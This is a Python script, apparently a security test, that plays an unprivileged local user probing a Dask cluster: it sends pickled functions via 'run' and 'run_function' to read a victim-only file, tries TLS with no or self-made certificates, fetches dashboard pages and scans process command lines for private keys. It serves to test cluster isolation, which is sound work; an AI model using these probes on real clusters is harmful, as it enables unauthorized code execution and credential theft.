"""Another user of the machine (uid 65534), who has no credential and tries what an open Dask cluster allows.

Reads from stdin, as JSON: the ports that a victim listens on, a file that only the victim may read, a folder to look
through, and how many seconds to wait for each answer. Writes, as JSON, what succeeded. It must be started by root, and gives
that up before the first attempt.
"""

import asyncio
import encodings.idna  # noqa: F401 - everything is imported before the switch: this user may not be allowed to read the environment
import functools
import json
import os
import ssl
import sys
import tempfile
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import distributed
from distributed.comm import connect
from distributed.core import send_recv
from distributed.protocol.pickle import dumps
from distributed.security import Security

NOBODY = 65534
PAGES = [
    *(
        "/",
        "/status",
        "/health",
        "/metrics",
        "/individual-task-stream",
        "/info/main/workers.html",
        "/info/main/logs.html",
    ),
    *("/json/counts.json", "/json/identity.json"),
]
NO_CONTENT = b'{"paths": ["/sitemap.json"]}'


def read_as_the_victim(path):
    import os
    from pathlib import Path

    return os.getuid(), Path(path).read_text()


@functools.cache
def contexts():
    """Return what a stranger can offer: no certificate, or one of an authority of their own."""
    found = {}
    for name in ("without a certificate", "with a certificate of their own"):
        found[name] = ssl.create_default_context()
        found[name].check_hostname, found[name].verify_mode = False, ssl.CERT_NONE
    own = Security.temporary()
    with tempfile.NamedTemporaryFile("w") as file:
        file.write(own.tls_client_cert + own.tls_client_key)
        file.flush()
        found["with a certificate of their own"].load_cert_chain(file.name)
    return found


async def attempt(message, address, how, seconds, **arguments):
    """Return what a server let us do."""
    try:
        comm = await asyncio.wait_for(connect(address, timeout=seconds, **arguments), 2 * seconds)
        answer = await asyncio.wait_for(send_recv(comm, close=True, **message), seconds)
    except Exception:  # refused, in whatever way
        return []
    worked = isinstance(answer, dict) and answer.get("status", "OK") == "OK"
    return (
        [f"{message['op']}: {answer.get('type') or answer.get('result')} {how}"] if worked else []
    )


async def connections(ports, secret, seconds):
    run = {
        "function": dumps(read_as_the_victim),
        "args": dumps((secret,)),
        "kwargs": dumps({}),
        "wait": True,
    }
    tried = []
    for port in ports:
        for message in ({"op": "identity"}, {"op": "run", **run}, {"op": "run_function", **run}):
            schemes = ("tcp", "ws") if message["op"] == "identity" else ("tcp",)
            tried += [
                attempt(message, f"{scheme}://127.0.0.1:{port}", "in plain text", seconds)
                for scheme in schemes
            ]
            for how, context in contexts().items():
                tried.append(
                    attempt(
                        message,
                        f"tls://127.0.0.1:{port}",
                        how,
                        seconds,
                        ssl_context=context,
                        require_encryption=True,
                    )
                )
    return [line for lines in await asyncio.gather(*tried) for line in lines]


def pages(ports, seconds):
    unverified = ssl.create_default_context()
    unverified.check_hostname, unverified.verify_mode = False, ssl.CERT_NONE
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=unverified)
    )

    def got(port, scheme, page):
        try:
            with opener.open(f"{scheme}://127.0.0.1:{port}{page}", timeout=seconds) as answer:
                content = answer.read()
        except Exception:  # refused, in whatever way
            return []
        return [f"page {page}"] if content != NO_CONTENT else []

    with ThreadPoolExecutor(64) as threads:
        asked = [
            threads.submit(got, port, scheme, page)
            for port in ports
            for scheme in ("http", "https")
            for page in PAGES
        ]
    return [line for one in asked for line in one.result()]


def files(folder):
    """Return the files below a folder that this user can read."""
    return [
        f"file {Path(parent, name).relative_to(folder)}"
        for parent, _, names in os.walk(folder)
        for name in names
        if os.access(Path(parent, name), os.R_OK)
    ]


def command_lines():
    """Return the secrets that stand in the process list."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_bytes()
        except OSError:
            continue
        found += [f"command line of {process.name}"] if b"PRIVATE KEY" in words else []
    return found


def main():
    assert distributed.__version__
    asyncio.run(
        connections([1], "warm", 0.5)
    )  # nobody listens there; whatever is imported late is imported now
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.chdir("/")
    wanted = json.load(sys.stdin)
    done = asyncio.run(connections(wanted["ports"], wanted["secret"], wanted["seconds"]))
    done += (
        pages(wanted["ports"], wanted["seconds"]) + files(Path(wanted["folder"])) + command_lines()
    )
    done += ["the victim's file"] if os.access(wanted["secret"], os.R_OK) else []
    json.dump(done, sys.stdout)


if __name__ == "__main__":
    main()
